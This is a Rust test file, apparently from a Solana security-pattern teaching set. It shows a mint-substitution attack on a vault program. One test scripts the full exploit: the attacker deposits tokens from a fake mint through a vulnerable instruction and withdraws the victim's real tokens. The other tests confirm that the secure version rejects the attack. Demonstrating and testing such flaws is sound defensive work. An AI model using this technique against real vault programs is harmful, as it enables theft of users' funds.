@@ -0,0 +1,344 @@
+/// # Pattern 24: Mint Substitution — Mollusk Exploit Tests
+///
+/// The vault holds the victim's 1,000 real tokens, and the victim's
+/// position records the deposit. The attacker controls a second mint and
+/// holds 1,000 of its tokens, plus an empty token account for that mint
+/// owned by the vault PDA. They also have an empty account for the real
+/// mint and an empty position.
+///
+/// - Test 1: EXPLOIT — the attacker deposits 1,000 fake tokens through
+///   deposit_vulnerable, then withdraws 1,000 real tokens, emptying the
+///   vault.
+/// - Test 2: SECURE — deposit_secure rejects the fake token accounts.
+/// - Test 3: SANITY — the victim withdraws 400 real tokens and deposits
+///   them again through deposit_secure.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, Ledger,
+};
+use test_harness::token::{token_account, TokenAccount};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("6fgyd6gD4ZkY56V787wawaEa84XhTTq61TP56g7kBygL");
+const TOKEN_PROGRAM_ID: Pubkey = solana_sdk::pubkey!("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA");
+
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = 10_000_000_000;
+
+/// The victim's deposit, and the attacker's fake balance.
+const DEPOSIT: u64 = 1_000;
+
+// Error codes
+const CONSTRAINT_TOKEN_MINT: u32 = 2014;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Vault account:
+///   [8 disc][32 mint][32 vault_token][1 bump]
+fn serialize_vault(mint: &Pubkey, vault_token: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(73);
+    data.extend_from_slice(&account_discriminator("Vault"));
+    data.extend_from_slice(mint.as_ref());
+    data.extend_from_slice(vault_token.as_ref());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Position account:
+///   [8 disc][32 vault][32 owner][8 amount][1 bump]
+fn serialize_position(vault: &Pubkey, owner: &Pubkey, amount: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(81);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(vault.as_ref());
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&amount.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+fn new_mollusk() -> Mollusk {
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "mint_substitution");
+    mollusk.add_program(
+        &TOKEN_PROGRAM_ID,
+        "spl_token",
+        &solana_sdk::bpf_loader_upgradeable::id(),
+    );
+    mollusk
+}
+
+/// One user: a wallet, a token account for the vault's mint, and a
+/// position in the vault.
+struct User {
+    key: Pubkey,
+    token: Pubkey,
+    position: Pubkey,
+    position_bump: u8,
+}
+
+impl User {
+    fn new(vault: &Pubkey) -> Self {
+        let key = Pubkey::new_unique();
+        let (position, position_bump) =
+            Pubkey::find_program_address(&[b"position", vault.as_ref(), key.as_ref()], &PROGRAM_ID);
+        Self {
+            key,
+            token: Pubkey::new_unique(),
+            position,
+            position_bump,
+        }
+    }
+}
+
+struct Setup {
+    vault: Pubkey,
+    mint: Pubkey,
+    vault_token: Pubkey,
+    fake_mint: Pubkey,
+    /// The attacker's 1,000 fake tokens.
+    fake_token: Pubkey,
+    /// Owned by the vault PDA, for the fake mint.
+    fake_vault_token: Pubkey,
+    victim: User,
+    attacker: User,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let mint = Pubkey::new_unique();
+        let vault_token = Pubkey::new_unique();
+        let (vault, vault_bump) =
+            Pubkey::find_program_address(&[b"vault", mint.as_ref()], &PROGRAM_ID);
+        let fake_mint = Pubkey::new_unique();
+        let fake_token = Pubkey::new_unique();
+        let fake_vault_token = Pubkey::new_unique();
+        let victim = User::new(&vault);
+        let attacker = User::new(&vault);
+
+        let mut ledger = vec![
+            (
+                vault,
+                owned_account(
+                    &serialize_vault(&mint, &vault_token, vault_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (vault_token, token_account(&TOKEN_PROGRAM_ID, &mint, &vault, DEPOSIT)),
+            (
+                fake_token,
+                token_account(&TOKEN_PROGRAM_ID, &fake_mint, &attacker.key, DEPOSIT),
+            ),
+            (fake_vault_token, token_account(&TOKEN_PROGRAM_ID, &fake_mint, &vault, 0)),
+            (
+                TOKEN_PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+        ];
+        for (user, deposited) in [(&victim, DEPOSIT), (&attacker, 0)] {
+            ledger.extend([
+                (user.key, system_account()),
+                (user.token, token_account(&TOKEN_PROGRAM_ID, &mint, &user.key, 0)),
+                (
+                    user.position,
+                    owned_account(
+                        &serialize_position(&vault, &user.key, deposited, user.position_bump),
+                        RENT,
+                        &PROGRAM_ID,
+                    ),
+                ),
+            ]);
+        }
+
+        Self {
+            vault,
+            mint,
+            vault_token,
+            fake_mint,
+            fake_token,
+            fake_vault_token,
+            victim,
+            attacker,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// deposit_* and withdraw share one account list. `user_token` is the
+    /// source of a deposit and the destination of a withdrawal.
+    fn ix(
+        &self,
+        name: &str,
+        user: &User,
+        vault_token: Pubkey,
+        user_token: Pubkey,
+        amount: u64,
+    ) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.vault, false),
+                AccountMeta::new(vault_token, false),
+                AccountMeta::new(user_token, false),
+                AccountMeta::new(user.position, false),
+                AccountMeta::new_readonly(user.key, true),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+            ],
+        )
+    }
+
+    fn position_data(&self, user: &User, amount: u64) -> Vec<u8> {
+        serialize_position(&self.vault, &user.key, amount, user.position_bump)
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_fake_mint_deposit_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   1. Attacker: deposit_vulnerable(1,000) from their fake-mint account
+    //      into the vault-owned fake-mint account
+    //   2. Attacker: withdraw(1,000) from the real vault token account
+    //
+    // Expected: both SUCCEED. The attacker's position is credited 1,000 for
+    //           tokens they minted, and the withdrawal moves the victim's
+    //           1,000 real tokens to the attacker. The vault is empty while
+    //           the victim's position still reads 1,000.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (attacker_position, fake_vault_token, vault_token, attacker_token) = (
+        s.attacker.position,
+        s.fake_vault_token,
+        s.vault_token,
+        s.attacker.token,
+    );
+
+    let ix = s.ix(
+        "deposit_vulnerable",
+        &s.attacker,
+        s.fake_vault_token,
+        s.fake_token,
+        DEPOSIT,
+    );
+    let credited = s.position_data(&s.attacker, DEPOSIT);
+    let parked = TokenAccount::new(&s.fake_mint, &s.vault, DEPOSIT).pack();
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&attacker_position).data(&credited).build(),
+            Check::account(&fake_vault_token).data(&parked).build(),
+        ],
+    );
+
+    let ix = s.ix(
+        "withdraw",
+        &s.attacker,
+        s.vault_token,
+        s.attacker.token,
+        DEPOSIT,
+    );
+    let drained = TokenAccount::new(&s.mint, &s.vault, 0).pack();
+    let stolen = TokenAccount::new(&s.mint, &s.attacker.key, DEPOSIT).pack();
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault_token).data(&drained).build(),
+            Check::account(&attacker_token).data(&stolen).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_deposit_rejects_foreign_mint() {
+    // -----------------------------------------------------------------------
+    // SECURE: The attacker tries the same deposit through deposit_secure.
+    //
+    // Expected: FAILS with ConstraintTokenMint (2014). The fake-mint
+    //           accounts don't hold vault.mint, so nothing is credited.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+
+    let ix = s.ix(
+        "deposit_secure",
+        &s.attacker,
+        s.fake_vault_token,
+        s.fake_token,
+        DEPOSIT,
+    );
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(CONSTRAINT_TOKEN_MINT))],
+    );
+}
+
+#[test]
+fn sanity_real_mint_round_trip_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: The victim withdraws 400 real tokens, then deposits them again
+    // through deposit_secure.
+    //
+    // Expected: both SUCCEED. After the withdrawal the victim holds 400 and
+    //           their position reads 600; after the deposit the vault holds
+    //           1,000 again and the position reads 1,000.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (victim_token, victim_position, vault_token) =
+        (s.victim.token, s.victim.position, s.vault_token);
+
+    let ix = s.ix("withdraw", &s.victim, s.vault_token, s.victim.token, 400);
+    let held = TokenAccount::new(&s.mint, &s.victim.key, 400).pack();
+    let position = s.position_data(&s.victim, 600);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&victim_token).data(&held).build(),
+            Check::account(&victim_position).data(&position).build(),
+        ],
+    );
+
+    let ix = s.ix(
+        "deposit_secure",
+        &s.victim,
+        s.vault_token,
+        s.victim.token,
+        400,
+    );
+    let restored = TokenAccount::new(&s.mint, &s.vault, DEPOSIT).pack();
+    let position = s.position_data(&s.victim, DEPOSIT);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault_token).data(&restored).build(),
+            Check::account(&victim_position).data(&position).build(),
+        ],
+    );
+}